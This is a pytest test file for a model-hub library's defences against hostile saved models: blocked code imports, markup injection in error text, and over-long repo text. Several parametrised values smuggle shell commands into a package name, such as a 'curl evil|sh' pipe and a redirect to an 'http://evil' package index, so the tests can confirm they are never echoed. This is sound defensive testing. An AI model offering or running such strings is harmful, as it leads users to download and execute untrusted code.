"""Hostile model folders and Hub repos (served by tests/hubserver.py): each is refused in one line, imports
nothing, writes nothing outside --out and allocates next to nothing."""

from __future__ import annotations

import json
import sys
import textwrap
from pathlib import Path

import pytest
import torch

from zoo_core.errors import PluginMissingError, ZooError
from zoo_core.hub import from_pretrained, pull, push_to_hub, save_pretrained
from test_hub import cli, files_of, hub, push_record, saved, tiny  # noqa: F401 - fixtures

STACKGAN = {"res": 16, "g_channels": 4, "d_channels": 4, "c_dim": 4, "z_dim": 4, "compress_dim": 4,
            "text_dim": 5, "vocab": ["red", "blue", "green", "big", "small"], "bank_bytes": 3}
ENCODER = '''
import os
from pathlib import Path
import torch
from torch import nn

Path(os.environ["ZOO_TRUST_MARKER"]).write_text("imported")


class Enc(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.dim = config.text_dim

    def fit(self, captions):
        pass

    def check(self, texts):
        pass

    def encode(self, texts):
        return torch.ones(len(texts), self.dim)
'''


@pytest.fixture(autouse=True)
def _quiet_progress():
    """No download bars on stderr, so a test can count the lines of an error."""
    from huggingface_hub.utils import disable_progress_bars, enable_progress_bars

    disable_progress_bars()
    yield
    enable_progress_bars()


def _one_line_error(code: int, err: str, *needles: str) -> None:
    assert code == 2 and err.count("\n") == 1 and "Traceback" not in err, err
    for needle in needles:
        assert needle in err, err


@pytest.fixture
def encoder_pkg(tmp_path, monkeypatch):
    """A third-party text encoder package that leaves a marker file when it is imported."""
    pkg = tmp_path / "code" / "zoo_trust_pkg"
    pkg.mkdir(parents=True)
    (pkg / "__init__.py").write_text("")
    (pkg / "enc.py").write_text(textwrap.dedent(ENCODER))
    marker = tmp_path / "imported.txt"
    monkeypatch.setenv("ZOO_TRUST_MARKER", str(marker))
    monkeypatch.syspath_prepend(str(tmp_path / "code"))
    yield marker
    for name in [m for m in sys.modules if m.startswith("zoo_trust_pkg")]:
        del sys.modules[name]


def _stackgan_saved(folder: Path, build_with: dict | None = None, **changes) -> Path:
    from zoo_stackgan.config import StackGANConfig
    from zoo_stackgan.model import StackGAN

    from zoo_core.config import build

    torch.manual_seed(0)
    save_pretrained(StackGAN(build(StackGANConfig, {**STACKGAN, **(build_with or {})})), folder)
    record = json.loads((folder / "config.json").read_text())
    record["config"].update(changes)
    (folder / "config.json").write_text(json.dumps(record))
    return folder


# ------------------------------------------------------------------ 1. nothing a folder names is run
def test_code_named_by_a_saved_config_is_never_imported(tmp_path, encoder_pkg, capsys):
    folder = _stackgan_saved(tmp_path / "m", text_encoder="zoo_trust_pkg.enc:Enc")
    with pytest.raises(ZooError, match=r"asks to import and run code \(--text-encoder 'zoo_trust_pkg.enc:Enc'\)"
                                       r".*trust_code=True \(--trust-code\)"):
        from_pretrained(folder, device="cpu")
    code, out, err = cli(["sample", str(folder), "--n", "1", "--out", str(tmp_path / "g.png"), "--device", "cpu"],
                         capsys)
    _one_line_error(code, err, "--trust-code")
    assert not encoder_pkg.exists() and "zoo_trust_pkg.enc" not in sys.modules
    assert not (tmp_path / "g.png").exists()
    # os.path:sys.exit used to end the process; now it is a refusal like any other path
    _stackgan_saved(tmp_path / "exit", text_encoder="os.path:sys.exit")
    with pytest.raises(ZooError, match="asks to import and run code"):
        from_pretrained(tmp_path / "exit", device="cpu")


def test_trust_code_opt_in_imports_the_named_encoder(tmp_path, encoder_pkg, capsys):
    folder = _stackgan_saved(tmp_path / "m", {"text_encoder": "zoo_trust_pkg.enc:Enc"})
    encoder_pkg.unlink()
    del sys.modules["zoo_trust_pkg.enc"]
    with pytest.raises(ZooError, match="asks to import"):
        from_pretrained(folder, device="cpu")
    assert not encoder_pkg.exists()
    model = from_pretrained(folder, device="cpu", trust_code=True)
    assert type(model.text).__name__ == "Enc" and encoder_pkg.read_text() == "imported"
    code, out, err = cli(["sample", str(folder), "--n", "1", "--out", str(tmp_path / "g.png"), "--device", "cpu",
                          "--trust-code"], capsys)
    assert code == 0, err
    assert (tmp_path / "g.png").is_file()


def test_training_time_import_path_is_the_users_choice(encoder_pkg):
    from zoo_stackgan.config import StackGANConfig
    from zoo_stackgan.model import StackGAN

    from zoo_core.config import build

    model = StackGAN(build(StackGANConfig, {**STACKGAN, "text_encoder": "zoo_trust_pkg.enc:Enc"}))
    assert type(model.text).__name__ == "Enc" and encoder_pkg.exists()


def test_named_encoders_load_without_trust(tmp_path):
    folder = _stackgan_saved(tmp_path / "m")
    assert from_pretrained(folder, device="cpu").generate(1, seed=0, prompt="red").shape == (1, 3, 16, 16)


# ------------------------------------------------------------------ 3. errors are text, not markup
@pytest.mark.parametrize("name", ["[/x]", "[red]loud[/red]", "[link=file:///etc]x[/link]"])
def test_repo_text_is_printed_verbatim(hub, saved, capsys, name):
    push_record(hub, "me/markup", saved, zoo_model=name, distribution=name)
    code, out, err = cli(["sample", "me/markup", "--n", "1", "--device", "cpu"], capsys)
    _one_line_error(code, err, f"model {name!r}")
    assert "pip install" not in err


@pytest.mark.parametrize("dist", ["zoo-x; curl evil|sh", "zoo-", "Zoo-X", "zoo-x --index-url http://evil", "evil"])
def test_install_hint_only_for_plugin_names(hub, saved, dist):
    push_record(hub, "me/hint", saved, zoo_model="nope", distribution=dist)
    with pytest.raises(PluginMissingError) as info:
        from_pretrained("me/hint")
    assert "pip install" not in str(info.value) and dist not in str(info.value)


def test_long_repo_text_is_cut(hub, saved):
    push_record(hub, "me/long", saved, zoo_model="x" * 100_000)
    with pytest.raises(PluginMissingError) as info:
        from_pretrained("me/long")
    assert len(str(info.value)) < 300
